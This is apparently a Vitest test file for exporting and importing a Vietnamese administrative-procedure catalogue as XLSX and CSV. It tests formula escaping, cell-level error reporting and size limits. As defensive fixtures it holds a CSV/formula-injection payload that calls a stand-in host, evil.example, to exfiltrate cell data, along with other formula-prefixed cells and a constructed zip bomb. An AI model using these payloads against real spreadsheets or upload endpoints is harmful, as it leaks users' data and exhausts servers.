import ExcelJS from "exceljs";
import JSZip from "jszip";
import { describe, expect, it, vi } from "vitest";
import { rejection } from "../../../test/support/expect-error.ts";
import { localizeField } from "../../platform/http/app-error.ts";
import { translator } from "../../platform/i18n/i18n.ts";
import { parseCsv } from "../../platform/text/csv-records.ts";
import { columnLetter, MAX_FILE_BYTES, parseCatalogue, writeCsv, writeXlsx } from "./catalogue-file.ts";
import { aDocument, applicantFields, aProcedureInput } from "../../../test/support/procedure-factories.ts";
import { ProcedureDefinition } from "./procedures.contract.ts";
import { buildZip, deflatedZeros } from "../../../test/support/zip-factories.ts";

// A small catalogue that uses every column of every sheet; the first code ends in zero, as 2.000810 does.
const catalogue = [
  aProcedureInput({
    code: "8.000010",
    processing: { unit: "sameDay", amount: 1, cutOff: "15:00" },
    fees: [{ key: "issue", label: "Lệ phí cấp giấy, mỗi bản", amount: 8000, exemptions: "Hộ nghèo; người khuyết tật" }],
    legalBasis: ["Luật thử nghiệm số 1/2020/QH14", "Nghị định số 2/2021/NĐ-CP, Điều 7"],
    summary: 'Giấy có giá trị 6 tháng, ghi rõ "mục đích sử dụng".',
  }),
  aProcedureInput({
    code: "8.000020",
    field: "certification",
    level: "province",
    onlineLevel: "none",
    fee: 0,
    documents: [
      aDocument("paper", "Giấy tờ, văn bản sẽ ký", { copies: 2, form: "originalOrCertifiedCopy", note: "Ký trước mặt người chứng thực." }),
      aDocument("template", "Tờ khai theo mẫu", { templateUrl: "https://dichvucong.gov.vn/mau/to-khai.docx", required: false }),
    ],
    form: [],
    steps: [{ key: "receive", name: "Tiếp nhận và trả kết quả", role: "one_stop_officer", share: 1 }],
    deliveryMethods: ["desk"],
  }),
  aProcedureInput({
    code: "8.000030",
    field: "socialProtection",
    onlineLevel: "partial",
    processing: { amount: 20 },
    fees: [],
    form: [
      ...applicantFields(),
      { key: "subject", label: "Người được hưởng trợ cấp", type: "person" },
      { key: "children", label: "Số con", type: "number", help: "Kể cả con nuôi" },
      { key: "story", label: "Hoàn cảnh gia đình", type: "longText", required: false },
      { key: "scan", label: "Ảnh giấy tờ khác", type: "file", required: false },
    ],
    deliveryMethods: ["desk", "post"],
  }),
].map((d) => ProcedureDefinition.parse(d));

const csvText = (bytes: Uint8Array) => new TextDecoder().decode(bytes).replace(/^\uFEFF/, "");
const csvBytes = (text: string) => new TextEncoder().encode(text);

describe("catalogue file", () => {
  it("round-trips a catalogue through XLSX and CSV unchanged", async () => {
    expect(await parseCatalogue(await writeXlsx(catalogue), "xlsx")).toEqual(catalogue);
    expect(await parseCatalogue(writeCsv(catalogue), "csv")).toEqual(catalogue);
  });

  it("writes text that a spreadsheet would run as a formula behind an apostrophe, numbers as numbers, and reads it back unchanged", async () => {
    const risky = ProcedureDefinition.parse(
      aProcedureInput({
        code: "8.000040",
        name: '=HYPERLINK("http://evil.example/?q="&A1,"Xem mẫu")',
        summary: "+84 912 345 678 là số đường dây nóng",
        legalBasis: ["- Luật Hộ tịch 2014", "@Nghị định 123/2015/NĐ-CP", "'=đã có dấu nháy"],
        fees: [{ key: "issue", label: "-50% cho hộ nghèo", amount: 8000, exemptions: "=1+1" }],
        documents: [aDocument("paper", "Giấy tờ", { note: "@SUM(A1:A9)" })],
      }),
    );
    const defs = [...catalogue, risky];
    const formula = /^[=+\-@\t\r]/;

    const csv = parseCsv(csvText(writeCsv(defs)));
    const csvCells = csv.flatMap((r) => r.cells.slice(1));
    expect(csvCells.filter((c) => formula.test(c))).toEqual([]);
    expect(csvCells).toContain(`'${risky.name}`);
    expect(csvCells).toContain("'- Luật Hộ tịch 2014\n@Nghị định 123/2015/NĐ-CP\n'=đã có dấu nháy");

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await writeXlsx(defs)) as unknown as ArrayBuffer);
    const texts: string[] = [];
    const amounts: unknown[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (typeof cell.value === "string") texts.push(cell.value);
        }),
      ),
    );
    wb.getWorksheet("fees")!
      .getColumn(4)
      .eachCell((cell, line) => void (line > 1 && amounts.push(cell.value)));
    expect(texts.filter((c) => formula.test(c))).toEqual([]);
    expect(texts).toContain("'-50% cho hộ nghèo");
    expect(amounts.length).toBeGreaterThan(0);
    expect(amounts.every((a) => typeof a === "number")).toBe(true);

    expect(await parseCatalogue(await writeXlsx(defs), "xlsx")).toEqual(defs);
    expect(await parseCatalogue(writeCsv(defs), "csv")).toEqual(defs);
  });

  it("keeps codes as text in the workbook, so a trailing zero survives", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await writeXlsx(catalogue)) as unknown as ArrayBuffer);
    const codes: unknown[] = [];
    wb.getWorksheet("procedures")!
      .getColumn(1)
      .eachCell((cell) => void codes.push(cell.value));
    expect(codes).toContain(catalogue[0]!.code);
    expect(codes.every((c) => typeof c === "string")).toBe(true);
  });

  it("names the sheet, row and column of each bad cell, in the reader's language", async () => {
    const text = csvText(writeCsv(catalogue.slice(0, 2)));
    const lines = text.split("\r\n");
    // Break the copies of the first document row and the role of the first step row.
    const first = catalogue[0]!;
    const docLine = lines.findIndex((l) => l.startsWith(`documents,${first.code},declaration`));
    lines[docLine] = lines[docLine]!.replace(/,1,original,/, ",many,original,");
    const stepLine = lines.findIndex((l) => l.startsWith(`steps,${first.code},review`));
    lines[stepLine] = lines[stepLine]!.replace("specialist", "clerk");
    const err = await rejection(parseCatalogue(csvBytes(lines.join("\r\n")), "csv"));
    expect(err.status).toBe(400);
    // The line a text editor shows: quoted legal-basis cells span several lines.
    const lineOf = (record: number) => lines.slice(0, record).join("\r\n").split("\n").length + 1;
    // CSV column A is the sheet name, so "copies" (4th column of documents) is E.
    expect(err.fields.map((f) => f.field)).toEqual([`documents!E${lineOf(docLine)}`, `steps!E${lineOf(stepLine)}`]);
    expect(localizeField(err.fields[0]!, translator("vi"))).toContain(`documents!E${lineOf(docLine)}`);
    expect(localizeField(err.fields[1]!, translator("en"))).toMatch(/steps!E\d+.*one of/);
  });

  it("reads a same-day procedure without an amount as one working day, and refuses another amount at its cell", async () => {
    const text = csvText(writeCsv(catalogue.slice(0, 1)));
    expect(text).toContain(",sameDay,1,15:00,");
    expect(await parseCatalogue(csvBytes(text.replace(",sameDay,1,15:00,", ",sameDay,,15:00,")), "csv")).toEqual(catalogue.slice(0, 1));
    const err = await rejection(parseCatalogue(csvBytes(text.replace(",sameDay,1,15:00,", ",sameDay,2,15:00,")), "csv"));
    // Column A is the sheet name, so processing_amount (7th column) is H.
    expect(err.fields.map((f) => f.field)).toEqual(["procedures!H2"]);
  });

  it("reports XLSX cells by their worksheet address", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await writeXlsx(catalogue.slice(0, 1))) as unknown as ArrayBuffer);
    wb.getWorksheet("fees")!.getCell("D2").value = -5;
    wb.getWorksheet("procedures")!.getCell("E2").value = "sometimes";
    const err = await rejection(parseCatalogue(new Uint8Array(await wb.xlsx.writeBuffer()), "xlsx"));
    expect(err.fields.map((f) => f.field).sort()).toEqual(["fees!D2", "procedures!E2"]);
  });

  it("refuses rows of unknown procedures, repeated codes, missing sheets and columns", async () => {
    const text = csvText(writeCsv(catalogue.slice(0, 1)));
    const orphan = `${text}documents,9.999999,x,Giấy tờ lạc,1,original,true,false,,\r\nprocedures,${text.split("\r\n")[1]!.slice("procedures,".length)}\r\n`;
    const err = await rejection(parseCatalogue(csvBytes(orphan), "csv"));
    expect(err.fields.map((f) => f.message)).toEqual(expect.arrayContaining(["procedures.import.unknownProcedure", "procedures.import.duplicateCode"]));
    const noFees = text
      .split("\r\n")
      .filter((l) => !l.startsWith("fees,"))
      .join("\r\n");
    expect((await rejection(parseCatalogue(csvBytes(noFees), "csv"))).fields).toEqual([
      expect.objectContaining({ field: "fees", message: "procedures.import.missingSheet" }),
    ]);
    const noName = text.replace("procedures,code,name,", "procedures,code,title,");
    expect((await rejection(parseCatalogue(csvBytes(noName), "csv"))).fields).toEqual([
      expect.objectContaining({ field: "procedures!A1", params: { column: "name" } }),
    ]);
  });

  it("refuses unreadable and oversized files", async () => {
    expect((await rejection(parseCatalogue(csvBytes("not a zip"), "xlsx"))).fields[0]).toMatchObject({
      field: "file",
      message: "procedures.import.unreadable",
    });
    expect((await rejection(parseCatalogue(new Uint8Array([0xff, 0xfe, 0x00]), "csv"))).fields[0]?.message).toBe("procedures.import.unreadable");
    expect((await rejection(parseCatalogue(new Uint8Array(MAX_FILE_BYTES + 1), "csv"))).status).toBe(413);
  });

  it("refuses a zip bomb with 413 naming the part, in Vietnamese and English, before the workbook is inflated", async () => {
    const zeros = await deflatedZeros(200 * 1024 * 1024);
    const bomb = buildZip([
      { name: "[Content_Types].xml", data: new TextEncoder().encode("<Types/>") },
      { name: "xl/worksheets/sheet1.xml", deflated: zeros },
    ]);
    expect(bomb.byteLength).toBeLessThan(MAX_FILE_BYTES);
    const inflate = vi.spyOn(JSZip, "loadAsync");
    try {
      const err = await rejection(parseCatalogue(bomb, "xlsx"));
      expect(err.status).toBe(413);
      expect(err.fields).toEqual([expect.objectContaining({ field: "file", message: "procedures.import.partTooLarge" })]);
      expect(localizeField(err.fields[0]!, translator("vi"))).toBe(
        "Trường “file”: phần “xl/worksheets/sheet1.xml” của tệp Excel giải nén ra 200 MB, quá mức 16 MB",
      );
      expect(localizeField(err.fields[0]!, translator("en"))).toBe(
        "Field “file”: part “xl/worksheets/sheet1.xml” of the Excel file expands to 200 MB, more than 16 MB",
      );
      expect(inflate).not.toHaveBeenCalled();
      // The same workbook path still reads an honest file.
      expect(await parseCatalogue(await writeXlsx(catalogue), "xlsx")).toEqual(catalogue);
      expect(inflate).toHaveBeenCalledTimes(1);
    } finally {
      inflate.mockRestore();
    }
  });

  it("parses quoted CSV cells spanning lines and remembers where each record starts", () => {
    expect(parseCsv('\uFEFFa,"b\nc",d\r\n\r\ne,"f ""g"""\n')).toEqual([
      { line: 1, cells: ["a", "b\nc", "d"] },
      { line: 4, cells: ["e", 'f "g"'] },
    ]);
  });

  it("letters columns like a spreadsheet", () => {
    expect([1, 26, 27, 52].map(columnLetter)).toEqual(["A", "Z", "AA", "AZ"]);
  });
});
